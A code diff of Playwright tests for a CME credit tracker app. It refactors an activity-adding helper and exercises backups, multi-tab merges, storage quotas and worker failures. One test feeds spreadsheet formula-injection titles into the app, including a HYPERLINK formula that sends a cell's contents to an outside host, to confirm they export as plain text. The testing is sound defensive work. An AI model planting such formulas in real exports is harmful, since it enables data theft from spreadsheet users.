@@ -1,4 +1,4 @@
-import { test, expect, openApp, screenshots, pdf } from './fixtures';
+import { test, expect, openApp, screenshots, pdf, addActivity as logActivity, storedTitles } from './fixtures';
 import type { Page, BrowserContext } from '@playwright/test';
 import * as fs from 'node:fs';
 import { randomUUID, randomBytes, createHash } from 'node:crypto';
@@ -7,20 +7,8 @@ import { randomUUID, randomBytes, createHash } from 'node:crypto';
 // tab saved, "Keep mine" after a conflict, a worker that fails on a file, certificates the browser
 // refuses or evicts, formula cells, and a half-filled form left by a link.
 
-async function storedTitles(page: Page): Promise<string[]> {
-  return page.evaluate(() =>
-    JSON.parse(localStorage.getItem('cme-tracker:activities') || '[]').map((a: { t: string }) => a.t),
-  );
-}
-
-async function addActivity(page: Page, title: string, date = '2025-03-10') {
-  await page.goto('./#/activities/new');
-  await page.getByLabel('Title').fill(title);
-  await page.getByLabel('Date (start)').fill(date);
-  await page.getByLabel('Amount').first().fill('1');
-  await page.getByRole('button', { name: 'Save activity' }).click();
-  await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
-}
+/** Logs a one-credit activity through the form. */
+const add = (page: Page, title: string) => logActivity(page, title, '2025-03-10', '1');
 
 async function twoTabs(context: BrowserContext) {
   const a = await context.newPage();
@@ -50,7 +38,7 @@ async function backupOf(page: Page, n: number, tag: string, path: string) {
 test('a backup merged after another tab saved keeps that tab’s activities, and a download made meanwhile', async ({ page }, info) => {
   test.setTimeout(180_000);
   const [a, b] = await twoTabs(page.context());
-  await addActivity(a, 'Model activity');
+  await add(a, 'Model activity');
   const file = info.outputPath('backup-500.json');
   await backupOf(a, 500, 'From the backup', file);
   // A reads the file and sees the preview.
@@ -58,7 +46,7 @@ test('a backup merged after another tab saved keeps that tab’s activities, and
   await a.getByLabel(/Choose a backup file/).setInputFiles(file);
   await expect(a.getByText('500 activities, 0 credentials, 0 goals')).toBeVisible();
   // Meanwhile tab B adds five activities, and A downloads a backup before confirming.
-  for (let i = 0; i < 5; i++) await addActivity(b, `Added in B ${i}`);
+  for (let i = 0; i < 5; i++) await add(b, `Added in B ${i}`);
   await expect.poll(async () => (await storedTitles(a)).length, { timeout: 15_000 }).toBe(6);
   const [download] = await Promise.all([
     a.waitForEvent('download'),
@@ -86,13 +74,13 @@ test('a backup merged after another tab saved keeps that tab’s activities, and
 test('“Replace everything” replaces what the preview showed and keeps what another tab added after it', async ({ page }, info) => {
   test.setTimeout(120_000);
   const [a, b] = await twoTabs(page.context());
-  await addActivity(a, 'Shown in the preview');
+  await add(a, 'Shown in the preview');
   const file = info.outputPath('backup-3.json');
   await backupOf(a, 3, 'Replacement', file);
   await a.goto('./#/backup');
   await a.getByLabel(/Choose a backup file/).setInputFiles(file);
   await expect(a.getByText('3 activities, 0 credentials, 0 goals')).toBeVisible();
-  await addActivity(b, 'Added in B after the preview');
+  await add(b, 'Added in B after the preview');
   await expect.poll(async () => (await storedTitles(a)).length, { timeout: 15_000 }).toBe(2);
   await a.getByText('Replace everything instead').click();
   await a.getByLabel('I understand that every current record will be replaced').check();
@@ -117,7 +105,7 @@ test('a spreadsheet imported after another tab saved keeps that tab’s activiti
   await a.getByLabel(/Choose a file/).setInputFiles(csv);
   await a.getByRole('button', { name: 'Check the rows' }).click();
   await expect(a.getByRole('button', { name: 'Import 200 activities' })).toBeVisible();
-  for (let i = 0; i < 5; i++) await addActivity(b, `Added in B ${i}`);
+  for (let i = 0; i < 5; i++) await add(b, `Added in B ${i}`);
   await expect.poll(async () => (await storedTitles(a)).length, { timeout: 15_000 }).toBe(5);
   await a.getByRole('button', { name: 'Import 200 activities' }).click();
   await expect(a).toHaveURL(/#\/activities$/);
@@ -129,7 +117,7 @@ test('a spreadsheet imported after another tab saved keeps that tab’s activiti
 
 test('“Keep mine” keeps the other tab’s changes to the fields not changed here', async ({ page }) => {
   const [a, b] = await twoTabs(page.context());
-  await addActivity(a, 'Grand rounds');
+  await add(a, 'Grand rounds');
   // The address follows the page's first frame.
   await expect(a).toHaveURL(/#\/activities\/[0-9a-f-]{36}$/);
   const id = a.url().split('/').pop()!;
@@ -153,7 +141,7 @@ test('“Keep mine” keeps the other tab’s changes to the fields not changed 
 test('a title that a spreadsheet would run as a formula is exported as text and imports back unchanged', async ({ page }, info) => {
   await openApp(page);
   const titles = ['=HYPERLINK("http://example.com/?"&A1,"Click")', '=1+1', '@SUM(A1:A2)', '-5 ways to chart'];
-  for (const t of titles) await addActivity(page, t);
+  for (const t of titles) await add(page, t);
   await page.goto('./#/backup');
   const [download] = await Promise.all([
     page.waitForEvent('download'),
@@ -186,7 +174,7 @@ test('a transcript nested 10,000 deep is refused with a message, and the worker 
   await page.getByLabel(/Choose a file/).setInputFiles(file);
   await expect(page.getByRole('alert')).toContainText('nests its elements more than 64 deep');
   // The worker answers the next job: a backup downloads.
-  await addActivity(page, 'After the deep file');
+  await add(page, 'After the deep file');
   await page.goto('./#/backup');
   const [download] = await Promise.all([
     page.waitForEvent('download'),
@@ -198,7 +186,7 @@ test('a transcript nested 10,000 deep is refused with a message, and the worker 
 test('a worker that fails on a request answers with a message, and a new worker serves the next job', async ({ page, guard }, info) => {
   guard.allowConsole(/worker stopped/i);
   await openApp(page);
-  await addActivity(page, 'Before the failure');
+  await add(page, 'Before the failure');
   await page.goto('./#/backup');
   // The worker starts with a first job.
   const [first] = await Promise.all([
@@ -230,7 +218,7 @@ test('a worker that fails on a request answers with a message, and a new worker 
 
 test('an attachment the browser has no room for is refused with a message and leaves no record', async ({ page }) => {
   await openApp(page);
-  await addActivity(page, 'Quota test');
+  await add(page, 'Quota test');
   const cdp = await page.context().newCDPSession(page);
   const origin = new URL(page.url()).origin;
   // What this origin may store, capped below one more certificate.
@@ -249,7 +237,7 @@ test('an attachment the browser has no room for is refused with a message and le
 
 test('certificates the browser evicted are announced, and a backup says it lacks them', async ({ page }, info) => {
   await openApp(page);
-  await addActivity(page, 'Evicted certificate');
+  await add(page, 'Evicted certificate');
   await page.getByLabel('Attach a certificate').setInputFiles([
     { name: 'one.pdf', mimeType: 'application/pdf', buffer: pdf('One') },
     { name: 'two.pdf', mimeType: 'application/pdf', buffer: pdf('Two') },
@@ -315,7 +303,7 @@ test('a link away from a half-filled form asks first; Stay keeps the text, Leave
 
 test('a slow passphrase check can be cancelled, and the next file is read at once', async ({ page }, info) => {
   await openApp(page);
-  await addActivity(page, 'Sealed');
+  await add(page, 'Sealed');
   await page.goto('./#/backup');
   const [plain] = await Promise.all([
     page.waitForEvent('download'),
@@ -357,7 +345,7 @@ test('a backup of 310 MB of certificates is written in parts that each import, a
   const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
   // Twenty certificates at most per activity: two activities.
   for (const [title, files] of [['Board review', made.slice(0, 20)], ['Annual conference', made.slice(20)]] as const) {
-    await addActivity(page, title);
+    await add(page, title);
     // Through files on disk: Playwright passes at most 50 MB of buffers.
     const onDisk = files.map((f) => {
       const p = info.outputPath(f.name);
